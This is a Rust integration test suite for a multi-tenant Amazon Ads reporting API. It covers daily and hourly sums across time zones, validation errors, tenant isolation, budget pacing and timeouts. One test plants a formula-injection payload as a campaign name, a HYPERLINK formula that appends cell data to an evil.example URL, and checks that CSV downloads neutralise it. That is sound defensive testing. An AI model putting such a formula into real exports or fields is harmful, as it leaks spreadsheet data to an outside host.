//! The reporting API against sums computed here, independently, from the records generated:
//! Sponsored Products, Brands and Display traffic and conversions in two marketplaces in two
//! time zones (US: UTC−7, DE: UTC+2 in June), with corrections (negative deltas) and records
//! delivered twice, by local day and by UTC hour; budget pacing; isolation; bad parameters.

use std::collections::BTreeMap;
use std::str::FromStr;

use ams_tests::api::{serve_with_api, Api, ADMIN_TOKEN};
use ams_tests::aws::Moto;
use ams_tests::TestDb;
use chrono::{DateTime, Duration, FixedOffset, TimeZone, Utc};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use rust_decimal::Decimal;
use serde_json::{json, Value};
use sqlx::Connection;

const ADMIN: Option<&str> = Some(ADMIN_TOKEN);

/// (code, marketplace id, currency, UTC offset in June in hours)
const MARKETS: [(&str, &str, &str, i32); 2] = [("US", "ATVPDKIKX0DER", "USD", -7), ("DE", "A1PA6795UKMFR9", "EUR", 2)];
/// (product, traffic dataset, conversion dataset, target field, placement field)
const PRODUCTS: [(&str, &str, &str, &str, Option<&str>); 3] = [
    ("SP", "sp-traffic", "sp-conversion", "keyword_id", Some("placement")),
    ("SB", "sb-traffic", "sb-conversion", "keyword_id", Some("placement_type")),
    ("SD", "sd-traffic", "sd-conversion", "target_id", None),
];

/// impressions, clicks, cost, orders, units, sales
type Sums = [Decimal; 6];

fn template(dataset: &str) -> serde_json::Map<String, Value> {
    let v: Value = serde_json::from_str(&ams_tests::fixture(&format!("{dataset}.json"))).unwrap();
    v.as_object().unwrap().clone()
}

fn money(rng: &mut StdRng, max_cents: i64) -> Decimal {
    Decimal::new(rng.gen_range(0..max_cents), 2)
}

struct Generated {
    lines: Vec<String>,
    /// (marketplace code, product, campaign, local date) → sums
    by_day: BTreeMap<(String, String, String, String), Sums>,
    /// (marketplace code, product, campaign, UTC hour) → sums
    by_hour: BTreeMap<(String, String, String, DateTime<Utc>), Sums>,
}

fn generate() -> Generated {
    let mut rng = StdRng::seed_from_u64(17);
    let start = Utc.with_ymd_and_hms(2026, 6, 10, 0, 0, 0).unwrap();
    let mut g = Generated { lines: Vec::new(), by_day: BTreeMap::new(), by_hour: BTreeMap::new() };
    let mut n = 0u64;
    for (code, market, currency, offset) in MARKETS {
        let tz = FixedOffset::east_opt(offset * 3600).unwrap();
        for (product, traffic, conversion, target, placement) in PRODUCTS {
            for c in 0..2 {
                let campaign = format!("{product}{code}{c}");
                for h in 0..48 {
                    let hour = start + Duration::hours(h);
                    if rng.gen_bool(0.2) {
                        continue;
                    }
                    let local = hour.with_timezone(&tz);
                    let day = local.date_naive().to_string();
                    // A delta, sometimes a correction of it, sometimes delivered twice.
                    for (dataset, is_traffic) in [(traffic, true), (conversion, false)] {
                        let deltas = if rng.gen_bool(0.3) { 2 } else { 1 };
                        for k in 0..deltas {
                            n += 1;
                            let mut r = template(dataset);
                            let sign = if k == 1 { Decimal::NEGATIVE_ONE } else { Decimal::ONE };
                            let mut m: Sums = [Decimal::ZERO; 6];
                            r.insert("idempotency_id".into(), json!(format!("gen-{n}")));
                            r.insert("marketplace_id".into(), json!(market));
                            r.insert("currency".into(), json!(currency));
                            r.insert("advertiser_id".into(), json!(format!("ADV{code}")));
                            r.insert("campaign_id".into(), json!(campaign));
                            r.insert("ad_group_id".into(), json!(format!("{campaign}-ag")));
                            r.insert("ad_id".into(), json!(format!("{campaign}-ad")));
                            r.insert(target.into(), json!(format!("{campaign}-t{}", h % 2)));
                            if let Some(p) = placement {
                                r.insert(p.into(), json!(if h % 3 == 0 { "Top of Search on-Amazon" } else { "Other on-Amazon" }));
                            }
                            r.insert("time_window_start".into(), json!(local.format("%Y-%m-%dT%H:%M:%S%:z").to_string()));
                            if is_traffic {
                                m[0] = Decimal::from(rng.gen_range(50..900)) * sign;
                                m[1] = Decimal::from(rng.gen_range(0..30)) * sign;
                                m[2] = money(&mut rng, 4000) * sign;
                                r.insert("impressions".into(), json!(i64::try_from(m[0]).unwrap()));
                                r.insert("clicks".into(), json!(i64::try_from(m[1]).unwrap()));
                                r.insert("cost".into(), Value::from_str(&m[2].to_string()).unwrap());
                            } else {
                                m[3] = Decimal::from(rng.gen_range(0..5)) * sign;
                                m[4] = m[3] + Decimal::from(rng.gen_range(0..2)) * sign;
                                m[5] = money(&mut rng, 20000) * sign;
                                r.insert("attributed_conversions_14d".into(), json!(i64::try_from(m[3]).unwrap()));
                                r.insert("attributed_units_ordered_14d".into(), json!(i64::try_from(m[4]).unwrap()));
                                r.insert("attributed_sales_14d".into(), Value::from_str(&m[5].to_string()).unwrap());
                            }
                            let line = Value::Object(r).to_string();
                            g.lines.push(line.clone());
                            if rng.gen_bool(0.1) {
                                g.lines.push(line); // delivered twice: counted once
                            }
                            let key = (code.to_owned(), product.to_owned(), campaign.clone());
                            add(g.by_day.entry((key.0.clone(), key.1.clone(), key.2.clone(), day.clone())).or_default(), &m);
                            add(g.by_hour.entry((key.0, key.1, key.2, hour)).or_default(), &m);
                        }
                    }
                }
            }
        }
    }
    g
}

fn add(into: &mut Sums, m: &Sums) {
    for (a, b) in into.iter_mut().zip(m) {
        *a += b;
    }
}

fn dec(v: &Value) -> Decimal {
    match v {
        Value::String(s) => Decimal::from_str(s).unwrap(),
        Value::Number(n) => Decimal::from_str(&n.to_string()).unwrap(),
        other => panic!("not a number: {other}"),
    }
}

fn sums(row: &Value) -> Sums {
    ["impressions", "clicks", "cost", "orders", "units", "sales"].map(|k| dec(&row[k]))
}

fn code_of(market: &str) -> String {
    MARKETS.iter().find(|m| m.1 == market).unwrap().0.to_owned()
}

fn setup() -> (TestDb, Moto, ams_tests::serve::Serve, Api, String, Generated) {
    let db = TestDb::new();
    let moto = Moto::start();
    let (serve, api) = serve_with_api(&db, &moto.url, &[]);
    api.ok("POST", "/v1/tenants", ADMIN, Some(&json!({"slug": "rep", "name": "Reporting"})), 201);
    let key = api.ok("POST", "/v1/tenants/rep/api-keys", ADMIN, Some(&json!({"name": "k", "scope": "read"})), 201)["token"]
        .as_str()
        .unwrap()
        .to_owned();
    let g = generate();
    let file = std::env::temp_dir().join(format!("ams-report-{}.ndjson", uuid::Uuid::new_v4().simple()));
    std::fs::write(&file, g.lines.join("\n")).unwrap();
    let out = std::process::Command::new(ams_tests::ams_hub_bin())
        // Small transactions: later ones add to hourly rows that exist (the rollups' UPDATE
        // path, and its trigger on the daily sums), not only new ones (COPY).
        .args(["ingest-file", "--tenant", "rep", "--batch-size", "97", file.to_str().unwrap()])
        .env("DATABASE_URL", &db.url)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    std::fs::remove_file(&file).ok();
    (db, moto, serve, api, key, g)
}

#[test]
fn daily_and_hourly_reports_equal_independent_sums_in_each_marketplaces_time_zone() {
    let (_db, _moto, _serve, api, key, g) = setup();
    // By local day: the US days run 2026-06-09 (from 17:00) to 06-11, DE 06-10 to 06-12.
    let r = api.ok(
        "GET",
        "/v1/tenants/rep/reports/performance?from=2026-06-09&to=2026-06-12&granularity=day&group_by=marketplace,product,campaign&limit=10000",
        Some(&key),
        None,
        200,
    );
    let rows = r["rows"].as_array().unwrap();
    let mut got: BTreeMap<(String, String, String, String), Sums> = BTreeMap::new();
    for row in rows {
        let k = (code_of(row["marketplace_id"].as_str().unwrap()), row["product"].as_str().unwrap().to_owned(),
            row["campaign_id"].as_str().unwrap().to_owned(), row["date"].as_str().unwrap().to_owned());
        assert_eq!(row["marketplace"].as_str(), Some(k.0.as_str()));
        assert!(got.insert(k, sums(row)).is_none(), "one row per group");
    }
    assert_eq!(got, g.by_day, "daily sums");
    assert!(got.keys().any(|k| k.0 == "US" && k.3 == "2026-06-09"), "US hours fall on the local day before");
    assert!(got.keys().any(|k| k.0 == "DE" && k.3 == "2026-06-12"), "DE hours fall on the local day after");

    // By UTC hour, a range of instants: [06-10T05:00Z, 06-11T05:00Z).
    let r = api.ok(
        "GET",
        "/v1/tenants/rep/reports/performance?from=2026-06-10T05:00:00Z&to=2026-06-11T05:00:00Z&granularity=hour&group_by=marketplace,product,campaign&limit=10000",
        Some(&key),
        None,
        200,
    );
    let (from, to) = (Utc.with_ymd_and_hms(2026, 6, 10, 5, 0, 0).unwrap(), Utc.with_ymd_and_hms(2026, 6, 11, 5, 0, 0).unwrap());
    let expected: BTreeMap<_, _> = g.by_hour.iter().filter(|(k, _)| k.3 >= from && k.3 < to).map(|(k, v)| (k.clone(), *v)).collect();
    let mut got = BTreeMap::new();
    for row in r["rows"].as_array().unwrap() {
        let hour: DateTime<Utc> = row["hour_utc"].as_str().unwrap().parse().unwrap();
        let code = code_of(row["marketplace_id"].as_str().unwrap());
        // The local hour is the UTC hour in the marketplace's zone.
        let offset = MARKETS.iter().find(|m| m.0 == code).unwrap().3;
        let local = (hour + Duration::hours(offset.into())).format("%Y-%m-%dT%H:%M:%S").to_string();
        assert_eq!(row["hour_local"].as_str(), Some(local.as_str()));
        got.insert((code, row["product"].as_str().unwrap().to_owned(), row["campaign_id"].as_str().unwrap().to_owned(), hour), sums(row));
    }
    assert_eq!(got, expected, "hourly sums");

    // Totals per marketplace and product, with ratios computed from the exact sums.
    let r = api.ok("GET", "/v1/tenants/rep/reports/performance?from=2026-06-09&to=2026-06-12&granularity=total&group_by=marketplace,product", Some(&key), None, 200);
    for row in r["rows"].as_array().unwrap() {
        let (code, product) = (code_of(row["marketplace_id"].as_str().unwrap()), row["product"].as_str().unwrap());
        let mut want: Sums = Default::default();
        for (k, v) in &g.by_day {
            if k.0 == code && k.1 == product {
                add(&mut want, v);
            }
        }
        let s = sums(row);
        assert_eq!(s, want);
        let roas = (want[5] / want[2]).round_dp(4);
        assert_eq!(dec(&row["roas"]), roas, "ROAS = sales / cost");
        assert_eq!(dec(&row["acos"]), (want[2] / want[5]).round_dp(4));
        assert_eq!(dec(&row["ctr"]), (want[1] / want[0]).round_dp(4));
        assert_eq!(row["currency"], if code == "US" { "USD" } else { "EUR" });
    }
    assert_eq!(r["rows"].as_array().unwrap().len(), 6);

    // Filters and sorting: one marketplace and product, most expensive campaign first.
    let r = api.ok("GET", "/v1/tenants/rep/reports/performance?from=2026-06-09&to=2026-06-12&granularity=total&group_by=campaign&marketplace=DE&product=SB&sort=-cost", Some(&key), None, 200);
    let rows = r["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 2);
    assert!(dec(&rows[0]["cost"]) >= dec(&rows[1]["cost"]));
    assert!(rows.iter().all(|r| r["campaign_id"].as_str().unwrap().starts_with("SBDE")));
    let by_account = api.ok("GET", "/v1/tenants/rep/reports/performance?from=2026-06-09&to=2026-06-12&granularity=total&account=ADVUS", Some(&key), None, 200);
    let mut us: Sums = Default::default();
    for (k, v) in &g.by_day {
        if k.0 == "US" {
            add(&mut us, v);
        }
    }
    assert_eq!(sums(&by_account["rows"][0]), us);

    // CSV: the same report, a header and one line per row.
    let csv = ureq::get(&format!("{}/v1/tenants/rep/reports/performance?from=2026-06-09&to=2026-06-12&granularity=total&group_by=marketplace,product", api.base))
        .set("Authorization", &format!("Bearer {key}"))
        .set("Accept", "text/csv")
        .call()
        .unwrap();
    assert!(csv.content_type().starts_with("text/csv"));
    let text = csv.into_string().unwrap();
    let mut lines = text.lines();
    assert_eq!(lines.next(), Some("marketplace_id,marketplace,product,currency,impressions,clicks,cost,orders,units,sales,ctr,cpc,cvr,acos,roas"));
    assert_eq!(lines.count(), 6);
}

#[test]
fn bad_parameters_are_422_with_what_is_allowed_and_other_tenants_get_404() {
    let (_db, _moto, _serve, api, key, _g) = setup();
    let base = "/v1/tenants/rep/reports/performance";
    for (q, says) in [
        ("?granularity=week", "hour, day, total"),
        ("?group_by=campaign,brand", "allowed: account, marketplace"),
        ("?from=2026-06-10&to=2026-06-01", "before"),
        ("?from=2026-06-10&to=2026-06-11T00:00:00Z", "both"),
        ("?from=yesterday", "RFC 3339"),
        ("?from=2020-01-01&to=2026-06-01", "at most 400"),
        ("?sort=-revenue", "cannot sort by"),
        ("?product=DSP", "SP, SB or SD"),
        ("?marketplace=XX", "unknown marketplace"),
        ("?limit=0", "limit"),
        ("?format=xml", "json or csv"),
    ] {
        let (status, body) = api.call("GET", &format!("{base}{q}"), Some(&key), None);
        assert_eq!(status, 422, "{q}: {body}");
        assert!(body["error"]["message"].as_str().unwrap().contains(says), "{q}: {body}");
    }
    let (status, _) = api.call("GET", &format!("{base}?limit=abc"), Some(&key), None);
    assert_eq!(status, 400);
    // Another tenant's key: 404, exactly as for a tenant that does not exist.
    api.ok("POST", "/v1/tenants", ADMIN, Some(&json!({"slug": "other", "name": "Other"})), 201);
    let other = api.ok("POST", "/v1/tenants/other/api-keys", ADMIN, Some(&json!({"name": "k"})), 201)["token"].as_str().unwrap().to_owned();
    for path in [base.to_owned(), "/v1/tenants/rep/reports/budgets".into()] {
        let (status, body) = api.call("GET", &path, Some(&other), None);
        assert_eq!(status, 404, "{path}: {body}");
    }
    let own = api.ok("GET", "/v1/tenants/other/reports/performance?from=2026-06-09&to=2026-06-12&granularity=total", Some(&other), None, 200);
    assert!(own["rows"].as_array().unwrap().is_empty(), "nothing of another tenant: {own}");
}

#[test]
fn budget_pacing_shows_each_scopes_latest_usage_with_its_campaign() {
    let db = TestDb::new();
    let moto = Moto::start();
    let (_serve, api) = serve_with_api(&db, &moto.url, &[]);
    api.ok("POST", "/v1/tenants", ADMIN, Some(&json!({"slug": "bud", "name": "Budgets"})), 201);
    let key = api.ok("POST", "/v1/tenants/bud/api-keys", ADMIN, Some(&json!({"name": "k"})), 201)["token"].as_str().unwrap().to_owned();
    let mut lines = Vec::new();
    for (pct, at) in [("40.0", "2026-06-10T15:00:00Z"), ("85.5", "2026-06-10T19:30:00Z"), ("60.0", "2026-06-10T17:00:00Z")] {
        let mut b = template("budget-usage");
        b.insert("budget_usage_percentage".into(), Value::from_str(pct).unwrap());
        b.insert("usage_updated_timestamp".into(), json!(at));
        lines.push(Value::Object(b).to_string());
    }
    lines.push(ams_tests::fixture("campaigns.json").replace('\n', " "));
    let file = std::env::temp_dir().join(format!("ams-budget-{}.ndjson", uuid::Uuid::new_v4().simple()));
    std::fs::write(&file, lines.join("\n")).unwrap();
    let out = std::process::Command::new(ams_tests::ams_hub_bin())
        .args(["ingest-file", "--tenant", "bud", file.to_str().unwrap()])
        .env("DATABASE_URL", &db.url)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let r = api.ok("GET", "/v1/tenants/bud/reports/budgets", Some(&key), None, 200);
    let rows = r["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 1, "{r}");
    let row = &rows[0];
    assert_eq!(dec(&row["budget_usage_percentage"]), Decimal::from_str("85.5").unwrap(), "the latest report wins");
    assert_eq!(dec(&row["spent_estimate"]), Decimal::from_str("42.75").unwrap(), "50.00 × 85.5 %");
    assert_eq!(row["campaign_name"], "SP - Earbuds - Exact");
    assert_eq!(row["usage_updated_local"], "2026-06-10T12:30:00", "Los Angeles time");
    assert_eq!(row["marketplace"], "US");
}

/// A campaign name that is a spreadsheet formula, as anyone who may rename a campaign in Amazon
/// can set it, arrives through the stream: CSV downloads write it as text (a leading `'`), so
/// no spreadsheet runs it; the JSON keeps it as sent; numbers stay numbers.
#[test]
fn a_formula_in_a_campaign_name_is_never_a_formula_in_a_csv_download() {
    let db = TestDb::new();
    let moto = Moto::start();
    let (_serve, api) = serve_with_api(&db, &moto.url, &[]);
    api.ok("POST", "/v1/tenants", ADMIN, Some(&json!({"slug": "csv", "name": "Csv"})), 201);
    let key = api.ok("POST", "/v1/tenants/csv/api-keys", ADMIN, Some(&json!({"name": "k", "scope": "read"})), 201)["token"].as_str().unwrap().to_owned();
    let formula = r#"=HYPERLINK("https://evil.example/?d="&A2,"open")"#;
    let mut campaign: Value = serde_json::from_str(&ams_tests::fixture("campaigns.json")).unwrap();
    campaign["name"] = json!(formula);
    let mut budget = template("budget-usage");
    budget.insert("budget_usage_percentage".into(), json!(85.5));
    let file = std::env::temp_dir().join(format!("ams-csv-{}.ndjson", uuid::Uuid::new_v4().simple()));
    std::fs::write(&file, [Value::Object(budget).to_string(), campaign.to_string()].join("\n")).unwrap();
    let out = std::process::Command::new(ams_tests::ams_hub_bin())
        .args(["ingest-file", "--tenant", "csv", file.to_str().unwrap()])
        .env("DATABASE_URL", &db.url)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    std::fs::remove_file(&file).ok();
    let json = api.ok("GET", "/v1/tenants/csv/reports/budgets", Some(&key), None, 200);
    assert_eq!(json["rows"][0]["campaign_name"], formula, "the JSON keeps the name as sent");
    let csv = ureq::get(&format!("{}/v1/tenants/csv/reports/budgets?format=csv", api.base))
        .set("Authorization", &format!("Bearer {key}"))
        .call()
        .unwrap()
        .into_string()
        .unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row.get(headers.iter().position(|h| h == name).unwrap()).unwrap().to_owned();
    assert_eq!(cell("campaign_name"), format!("'{formula}"), "{csv}");
    assert_eq!(cell("budget_usage_percentage"), "85.5", "a number stays a number: {csv}");
    for field in row.iter() {
        assert!(!field.starts_with(['=', '+', '@']), "a cell a spreadsheet would evaluate: {field:?}");
    }
}

/// The API's statements run under a timeout on a pool of their own, and a tenant runs a
/// bounded number of reports at once: a report stuck in the database (a lock held here) is cut
/// off with 503 `timeout` (JSON, never a hang), a second one of the same tenant meanwhile gets
/// 429 with `Retry-After`, and `/readyz` (through the ingest pool) stays 200.
#[test]
fn a_stuck_report_is_cut_off_and_a_tenant_runs_a_bounded_number_at_once() {
    let db = TestDb::new();
    let moto = Moto::start();
    let (_serve, api) =
        serve_with_api(&db, &moto.url, &[("AMS_HUB_API_STATEMENT_TIMEOUT_MS", "1500"), ("AMS_HUB_REPORTS_PER_TENANT", "1")]);
    api.ok("POST", "/v1/tenants", ADMIN, Some(&json!({"slug": "heavy", "name": "Heavy"})), 201);
    let key = api.ok("POST", "/v1/tenants/heavy/api-keys", ADMIN, Some(&json!({"name": "k", "scope": "read"})), 201)["token"].as_str().unwrap().to_owned();
    api.ok("GET", "/v1/tenants/heavy/reports/budgets", Some(&key), None, 200);
    let rt = tokio::runtime::Runtime::new().unwrap();
    let mut lock = rt.block_on(sqlx::PgConnection::connect(&db.url)).unwrap();
    rt.block_on(async {
        sqlx::query("BEGIN").execute(&mut lock).await.unwrap();
        sqlx::query("LOCK TABLE tenant_heavy.amzn_stream_budget_usage_current IN ACCESS EXCLUSIVE MODE").execute(&mut lock).await.unwrap();
    });
    let stuck = {
        let (api, key) = (api.clone(), key.clone());
        std::thread::spawn(move || api.call("GET", "/v1/tenants/heavy/reports/budgets", Some(&key), None))
    };
    let store = rt.block_on(db.store());
    let waiting = || -> bool {
        rt.block_on(
            sqlx::query_scalar::<_, bool>("SELECT EXISTS (SELECT 1 FROM pg_stat_activity WHERE query LIKE '%budget_pacing%' AND wait_event_type = 'Lock')")
                .fetch_one(store.pool()),
        )
        .unwrap()
    };
    ams_tests::wait::until_blocking("the report to reach the lock", 10, || waiting().then_some(()), String::new);
    let second = ureq::get(&format!("{}/v1/tenants/heavy/reports/budgets", api.base)).set("Authorization", &format!("Bearer {key}")).call();
    let Err(ureq::Error::Status(429, r)) = second else { panic!("expected 429: {second:?}") };
    assert!(r.header("Retry-After").is_some());
    assert_eq!(r.into_json::<Value>().unwrap()["error"]["code"], "too_many_requests");
    let ready = ureq::get(&format!("{}/readyz", api.base)).call().map(|r| r.status()).unwrap_or(0);
    assert_eq!(ready, 200, "ready while the API pool waits");
    let (status, body) = stuck.join().unwrap();
    assert_eq!((status, body["error"]["code"].as_str()), (503, Some("timeout")), "{body}");
    rt.block_on(sqlx::query("ROLLBACK").execute(&mut lock)).unwrap();
    api.ok("GET", "/v1/tenants/heavy/reports/budgets", Some(&key), None, 200);
}
